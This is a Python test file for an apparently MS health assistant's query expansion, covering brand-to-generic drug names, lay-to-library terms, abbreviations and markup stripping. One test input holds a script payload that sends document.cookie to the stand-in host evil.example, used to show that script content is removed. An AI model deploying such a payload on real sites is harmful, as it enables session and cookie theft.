"""Brand and everyday names mapped to the library's words."""

from __future__ import annotations

import re

from conftest import REPO

from assistant.drugs import DRUGS
from assistant.synonyms import EVERYDAY_WORDS, expand_query, strip_markup


def test_brand_names_are_asked_as_generic_names() -> None:
    asked = expand_query("what is Briumvi and is it any better than aubagio?")
    assert asked == "what is ublituximab and is it any better than teriflunomide?"


def test_everyday_words_stay_and_the_library_words_are_appended() -> None:
    asked = expand_query("does mono cause MS when I'm tired?")
    assert asked.startswith("does mono cause MS when I'm tired? (")
    assert "Epstein-Barr virus EBV" in asked and "fatigue" in asked


def test_questions_without_known_names_are_unchanged() -> None:
    assert expand_query("Does coffee lower the risk of MS?") == "Does coffee lower the risk of MS?"


def test_heredity_words_bring_the_library_genetics_words() -> None:
    for question in ("is MS hereditary?", "will I inherit it?", "does MS run in families?"):
        assert "genetic genes" in expand_query(question), question


def test_clinician_abbreviations_are_spelled_out() -> None:
    asked = expand_query("What was the HR for 12-week CDP in ORATORIO?")
    assert "hazard ratio" in asked and "confirmed disability worsening" in asked
    assert "yearly relapse rate" in expand_query("ARR on cladribine?")


def test_what_causes_ms_is_asked_as_the_risk_of_getting_it() -> None:
    assert "risk of getting MS" in expand_query("What causes MS?")
    assert "risk of getting MS" not in expand_query("does stress cause relapses?")


def test_spacing_out_doses_is_asked_as_a_longer_gap() -> None:
    assert "longer gap between doses" in expand_query("can I space out my infusions?")


def test_forgetfulness_and_ms_type_abbreviations_bring_the_library_words() -> None:
    assert "memory" in expand_query("she gets confused and forgetful")
    assert "relapsing-remitting MS" in expand_query("I have RRMS")
    assert "primary progressive MS" in expand_query("what about PPMS?")


def test_markup_is_left_out_of_the_words_searched_and_script_code_with_it() -> None:
    """Script and style elements hold code: their words ("document", "cookie") once
    made "how common is pain?" look like a question about something else."""
    asked = (
        "<script>document.location='https://evil.example/?c='+document.cookie</script>"
        " how common is <b>pain</b> in [MS](https://example.org)? <style>p{color:red}</style>"
    )
    assert strip_markup(asked) == "how common is pain in MS?"
    # An unclosed script tag is only a tag: the words after it are still the question.
    assert strip_markup("<script> does coffee help?") == "does coffee help?"


def test_the_everyday_table_appends_only_words_the_library_uses() -> None:
    """An appended word no summary uses finds nothing and reads as a missing subject:
    "teenager" once appended "adolescent", and "can a chubby teenager get ms?" abstained.
    Only a drug the library never studied ("ldn" -> naltrexone) may be absent, so that a
    question about it abstains."""
    word = re.compile(r"[a-z0-9]+(?:[-'][a-z0-9]+)*")
    library = " ".join(p.read_text().lower() for p in (REPO / "knowledge" / "library").glob("*.md"))
    used = set(word.findall(library)) | {d.generic for d in DRUGS}
    absent = {
        lay: [w for w in word.findall(words.lower()) if w not in used]
        for lay, words in EVERYDAY_WORDS.items()
    }
    assert {lay: ws for lay, ws in absent.items() if ws} == {}
